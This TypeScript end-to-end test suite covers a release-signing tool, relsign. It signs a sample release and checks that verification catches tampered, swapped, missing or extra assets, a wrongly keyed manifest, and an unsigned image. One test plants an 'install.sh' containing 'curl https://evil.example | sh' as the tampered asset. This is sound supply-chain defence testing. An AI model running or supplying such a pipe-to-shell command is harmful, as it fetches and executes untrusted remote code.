/**
 * End to end: `relsign release` of the example project (archives, source,
 * checksums, a `.sig` for each, a multi-platform image pushed to a real
 * registry and signed, the signed release manifest; key signatures recorded
 * in a local Rekor) against the fake GitHub; then `relsign verify-release
 * acme/hello@v1.2.3` passes, with the manifest bundle's log entry and the
 * image's signature checked, and so does the downloaded folder. Tampering
 * with the published release fails with one line naming the asset.
 */
import { cp, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { Signer } from '../../src/sigstore/signer.js';
import { FakeGitHub, type FakeAsset } from '../github/fake-github.js';
import { hasStackTrace, REPO_ROOT, runCli } from '../helpers/cli.js';
import { startRegistry, type TestRegistry } from '../helpers/registry.js';
import { TempRepo } from '../helpers/repo.js';
import { startSigstoreServices, type SigstoreServices } from '../helpers/sigstore-services.js';
import { RegistryClient } from '../../src/oci/client.js';
import { keyBundle } from './fixture.js';

let fake: FakeGitHub;
let registry: TestRegistry;
let services: SigstoreServices;
let repo: TempRepo;
let keyDir: string;
const PASSWORD = 'verify-release-e2e-5190';
const MANIFEST = 'hello_1.2.3_manifest.json';
const ARCHIVE = 'hello_1.2.3_linux_amd64.tar.gz';

beforeAll(async () => {
  services = await startSigstoreServices();
  fake = await new FakeGitHub({ owner: 'acme', repo: 'hello' }).start();
  registry = await startRegistry();
  keyDir = await mkdtemp(join(tmpdir(), 'relsign-vr-e2e-key-'));
  const gen = await runCli(['generate-key-pair'], { cwd: keyDir, env: { COSIGN_PASSWORD: PASSWORD } });
  expect(gen.code, gen.stderr).toBe(0);
  repo = await TempRepo.create();
  await cp(join(REPO_ROOT, 'fixtures/example'), join(repo.dir, 'fixtures/example'), { recursive: true });
  const example = await readFile(join(REPO_ROOT, 'release.config.example.yaml'), 'utf8');
  const dockerSigns = 'docker_signs:\n  - signer: builtin\n    key: env://COSIGN_PRIVATE_KEY\n    artifacts: manifests\n';
  await writeFile(join(repo.dir, 'release.config.example.yaml'), `${example}\n${dockerSigns}\ngithub_urls:\n  api: ${fake.apiUrl}\n`);
  await writeFile(join(repo.dir, '.gitignore'), 'dist/\n');
  await repo.git('remote', 'add', 'origin', 'https://github.com/acme/hello.git');
  await repo.commit('feat: first');
  await repo.tag('v1.2.3');
  const r = await runCli(['release', '--clean', '--config', 'release.config.example.yaml'], {
    cwd: repo.dir,
    env: {
      GITHUB_TOKEN: fake.token,
      COSIGN_PRIVATE_KEY: await readFile(join(keyDir, 'cosign.key'), 'utf8'),
      COSIGN_PASSWORD: PASSWORD,
      GITHUB_REPOSITORY: undefined,
      RELSIGN_IMAGE_REPO: `${registry.host}/hello`,
      RELSIGN_REKOR_URL: services.rekorURL,
    },
  });
  expect(r.code, r.stderr).toBe(0);
}, 240_000);
afterAll(async () => {
  await services?.stop();
  await fake?.close();
  await registry?.stop();
  await repo?.remove();
  if (keyDir) await rm(keyDir, { recursive: true, force: true });
});

/** Each test may tamper with the published release; it is put back afterwards. */
let saved: { assets: FakeAsset[]; contents: Map<number, Buffer> } | undefined;
afterEach(() => {
  if (!saved) return;
  const release = fake.releases[0]!;
  release.assets.splice(0, release.assets.length, ...saved.assets.map((a) => ({ ...a })));
  fake.contents.clear();
  for (const [k, v] of saved.contents) fake.contents.set(k, v);
});
function tamper(): { release: (typeof fake.releases)[0] } {
  const release = fake.releases[0]!;
  saved = { assets: release.assets.map((a) => ({ ...a })), contents: new Map(fake.contents) };
  return { release };
}

const verify = (extra: string[] = [], target = 'acme/hello@v1.2.3') =>
  runCli(['verify-release', '--key', join(keyDir, 'cosign.pub'), '--trusted-root', services.trustedRootPath, '--github-url', fake.apiUrl, ...extra, target], {
    env: { GITHUB_TOKEN: fake.token, GH_TOKEN: undefined },
  });
const failedLines = (stdout: string) => stdout.split('\n').filter((l) => l.startsWith('FAILED '));

describe('a release made by relsign verifies with relsign verify-release', () => {
  it('by OWNER/REPO@TAG: every asset, the manifest (with its log entry) and the image', async () => {
    const release = fake.releases[0]!;
    expect(release.draft).toBe(false);
    expect(release.assets.map((a) => a.name)).toContain(MANIFEST);
    const r = await verify();
    expect(r.code, r.stdout + r.stderr).toBe(0);
    const assets = release.assets.length;
    expect(r.stdout).toMatch(new RegExp(`^verdict: OK: ${assets} assets and 1 image verified against the manifest ${MANIFEST.replaceAll('.', '\\.')} signed by key SHA256:[0-9a-f]{16}$`, 'm'));
    expect(r.stdout).toMatch(new RegExp(`^${registry.host.replaceAll('.', '\\.')}/hello@sha256:[0-9a-f]{64}\\s+ok\\s+registry signatures`, 'm'));
    expect(r.stdout).toMatch(new RegExp(`^${ARCHIVE.replaceAll('.', '\\.')}\\s+[0-9a-f]{12}\\s+ok\\s+manifest, ${ARCHIVE.replaceAll('.', '\\.')}\\.sig, checksums\\s`, 'm'));
    const json = JSON.parse((await verify(['--json'])).stdout);
    expect(json).toMatchObject({ ok: true, manifest: { name: MANIFEST, verified: true, repository: 'acme/hello', tag: 'v1.2.3', version: '1.2.3' } });
    expect(json.images).toHaveLength(1);
  });

  it('from a downloaded folder', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'relsign-vr-e2e-dl-'));
    try {
      await mkdir(join(dir, 'assets'));
      for (const a of fake.releases[0]!.assets) await writeFile(join(dir, 'assets', a.name), fake.contents.get(a.id)!);
      const r = await runCli(['verify-release', '--key', join(keyDir, 'cosign.pub'), '--trusted-root', services.trustedRootPath, join(dir, 'assets')]);
      expect(r.code, r.stdout + r.stderr).toBe(0);
      const skipped = await runCli(['verify-release', '--key', join(keyDir, 'cosign.pub'), '--trusted-root', services.trustedRootPath, '--skip-images', join(dir, 'assets')]);
      expect(skipped.code).toBe(0);
      expect(skipped.stdout).toContain('note: 1 image(s) listed in the manifest not checked (--skip-images)');
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('a tampered asset fails', async () => {
    const { release } = tamper();
    fake.setAssetContent(fake.asset(release, ARCHIVE), Buffer.from('tampered'));
    const r = await verify();
    expect(r.code).toBe(1);
    const lines = failedLines(r.stdout);
    expect(lines.length).toBeGreaterThan(0);
    for (const l of lines) expect(l.startsWith(`FAILED ${ARCHIVE}: `)).toBe(true);
    expect(hasStackTrace(r.stdout + r.stderr)).toBe(false);
  });

  it('a swapped .sig fails', async () => {
    const { release } = tamper();
    const a = fake.asset(release, `${ARCHIVE}.sig`);
    const b = fake.asset(release, 'hello_1.2.3_windows_amd64.zip.sig');
    const [ca, cb] = [fake.contents.get(a.id)!, fake.contents.get(b.id)!];
    fake.setAssetContent(a, cb);
    fake.setAssetContent(b, ca);
    const r = await verify();
    expect(r.code).toBe(1);
    const lines = failedLines(r.stdout);
    expect(lines).toContainEqual(expect.stringMatching(new RegExp(`^FAILED ${ARCHIVE.replaceAll('.', '\\.')}: ${ARCHIVE.replaceAll('.', '\\.')}\\.sig: invalid signature`)));
    expect(lines).toContainEqual(expect.stringMatching(/^FAILED hello_1\.2\.3_windows_amd64\.zip: hello_1\.2\.3_windows_amd64\.zip\.sig: invalid signature/));
  });

  it('a removed asset fails', async () => {
    const { release } = tamper();
    release.assets.splice(release.assets.indexOf(fake.asset(release, ARCHIVE)), 1);
    const r = await verify();
    expect(r.code).toBe(1);
    expect(failedLines(r.stdout)).toContain(`FAILED ${ARCHIVE}: is listed in the manifest ${MANIFEST} but missing from the release`);
  });

  it('an extra unlisted asset fails', async () => {
    const { release } = tamper();
    fake.addAsset(release, { name: 'install.sh', content: Buffer.from('curl https://evil.example | sh\n') });
    const r = await verify();
    expect(r.code).toBe(1);
    expect(failedLines(r.stdout)).toEqual([`FAILED install.sh: is not listed in the manifest ${MANIFEST}`]);
  });

  it('a manifest signed by another key fails', async () => {
    const { release } = tamper();
    const manifest = fake.contents.get(fake.asset(release, MANIFEST).id)!;
    fake.setAssetContent(fake.asset(release, `${MANIFEST}.sigstore.json`), Buffer.from(await keyBundle(Signer.generate(), manifest)));
    const r = await verify(['--insecure-ignore-tlog']);
    expect(r.code).toBe(1);
    expect(failedLines(r.stdout)).toEqual([`FAILED ${MANIFEST}: ${MANIFEST}.sigstore.json: the manifest's signature does not verify with cosign.pub (signed by another key?)`]);
  });

  it('an image the manifest lists that carries no signature fails, naming it', async () => {
    // A manifest (re-signed with the release key) that lists one platform image of the index: only the index is signed.
    const release = fake.releases[0]!;
    const manifest = JSON.parse(fake.contents.get(fake.asset(release, MANIFEST).id)!.toString('utf8'));
    const image = manifest.predicate.images[0] as { repository: string; digest: string };
    const repoRef = { registry: registry.host, repository: 'hello' };
    const index = await new RegistryClient({}).getManifest(repoRef, image.digest, ['application/vnd.oci.image.index.v1+json']);
    const child = (index!.json as { manifests: Array<{ digest: string }> }).manifests[0]!.digest;
    manifest.predicate.images = [{ ...manifest.predicate.images[0], digest: child }];
    const bytes = Buffer.from(`${JSON.stringify(manifest, null, 2)}\n`);
    const signer = await Signer.load(join(keyDir, 'cosign.key'), PASSWORD);
    const dir = await mkdtemp(join(tmpdir(), 'relsign-vr-e2e-img-'));
    try {
      for (const a of release.assets) await writeFile(join(dir, a.name), fake.contents.get(a.id)!);
      await writeFile(join(dir, MANIFEST), bytes);
      await writeFile(join(dir, `${MANIFEST}.sigstore.json`), await keyBundle(signer, bytes));
      const r = await runCli(['verify-release', '--key', join(keyDir, 'cosign.pub'), '--insecure-ignore-tlog', dir]);
      expect(r.code).toBe(1);
      expect(failedLines(r.stdout)).toEqual([`FAILED ${image.repository}@${child}: no signatures found for ${image.repository}@${child}`]);
      const skipped = await runCli(['verify-release', '--key', join(keyDir, 'cosign.pub'), '--insecure-ignore-tlog', '--skip-images', dir]);
      expect(skipped.code, skipped.stdout).toBe(0);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});
